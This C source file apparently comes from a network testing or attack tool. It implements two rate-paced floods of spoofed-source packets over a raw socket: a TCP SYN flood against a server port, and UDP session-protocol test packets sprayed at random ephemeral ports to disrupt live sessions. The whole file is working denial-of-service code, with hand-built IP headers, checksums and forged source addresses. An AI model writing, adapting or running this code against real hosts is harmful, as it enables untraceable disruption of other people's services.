/* SPDX-License-Identifier: MIT */
/* Attacks by single packets, with whatever source address: it is only written into them. */
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "stranger.h"

enum { TEST_PACKET = 14, PORT_LOW = 32768, PORT_HIGH = 60999 };

struct packet {
  struct ip ip;
  union {
    struct tcphdr tcp;
    struct {
      struct udphdr udp;
      uint8_t payload[TEST_PACKET];
    };
  };
};

struct flood {
  const struct target *target;
  int socket;
  uint32_t random;
  unsigned long sent;
};

static uint32_t next_random(struct flood *flood)
{
  flood->random = flood->random * 1664525u + 1013904223u;
  return flood->random >> 8;
}

/* The Internet checksum; the pseudo header's sum comes first. */
static uint16_t checksum(const void *data, size_t octets, uint32_t sum)
{
  const uint8_t *at = data;
  for (size_t i = 0; i + 1 < octets; i += 2)
    sum += (uint32_t)(at[i] << 8 | at[i + 1]);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static void dispatch(struct flood *flood, struct packet *packet, size_t octets, uint8_t protocol)
{
  struct in_addr source = stranger_address(flood->target, flood->sent).sin_addr;
  packet->ip = (struct ip){.ip_v = 4,
                           .ip_hl = 5,
                           .ip_len = htons((uint16_t)octets),
                           .ip_ttl = 255,
                           .ip_p = protocol,
                           .ip_src = source,
                           .ip_dst = flood->target->server.sin_addr};
  if (protocol == IPPROTO_TCP) {
    uint32_t from = ntohl(source.s_addr);
    uint32_t to = ntohl(packet->ip.ip_dst.s_addr);
    packet->tcp.th_sum = checksum(&packet->tcp, sizeof packet->tcp,
                                  (from >> 16) + (from & 0xffff) + (to >> 16) + (to & 0xffff) + protocol +
                                      (uint32_t)sizeof packet->tcp);
  }
  if (sendto(flood->socket, packet, octets, 0, (const struct sockaddr *)&flood->target->server,
             sizeof flood->target->server) < 0 &&
      flood->sent == 0)
    give_up("sendto");
  flood->sent++;
}

static void send_syn(struct flood *flood)
{
  struct packet packet = {.tcp = {.th_sport = htons((uint16_t)(1024 + next_random(flood) % 64000)),
                                  .th_dport = flood->target->server.sin_port,
                                  .th_seq = next_random(flood),
                                  .th_off = 5,
                                  .th_flags = TH_SYN,
                                  .th_win = htons(65535)}};
  dispatch(flood, &packet, sizeof packet.ip + sizeof packet.tcp, IPPROTO_TCP);
}

/* A test packet of open mode with a small sequence number: to whichever session has the port. */
static void send_test_packet(struct flood *flood)
{
  uint32_t port = PORT_LOW + next_random(flood) % (PORT_HIGH - PORT_LOW + 1);
  struct packet packet = {.udp = {.uh_sport = htons((uint16_t)(PORT_LOW + next_random(flood) % 28000)),
                                  .uh_dport = htons((uint16_t)port),
                                  .uh_ulen = htons(sizeof packet.udp + TEST_PACKET)},
                          .payload = {[3] = (uint8_t)(next_random(flood) % 10)}};
  dispatch(flood, &packet, sizeof packet.ip + sizeof packet.udp + TEST_PACKET, IPPROTO_UDP);
}

static void run(const struct target *target, void (*send_one)(struct flood *flood), const char *what)
{
  const struct timespec a_while = {.tv_nsec = 1000000};
  struct flood flood = {.target = target, .socket = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)};
  if (flood.socket < 0 || getrandom(&flood.random, sizeof flood.random, 0) < 0)
    give_up("raw socket");
  struct pace pace = {.a_second = target->level, .last = monotonic_ns()};
  while (!told_to_end) {
    for (unsigned due = due_now(&pace); due > 0; due--)
      send_one(&flood);
    nanosleep(&a_while, NULL);
  }
  printf("%lu %s sent\n", flood.sent, what);
  close(flood.socket);
}

void attack_half_open(const struct target *target)
{
  run(target, send_syn, "SYNs");
}

void attack_stray(const struct target *target)
{
  run(target, send_test_packet, "packets");
}
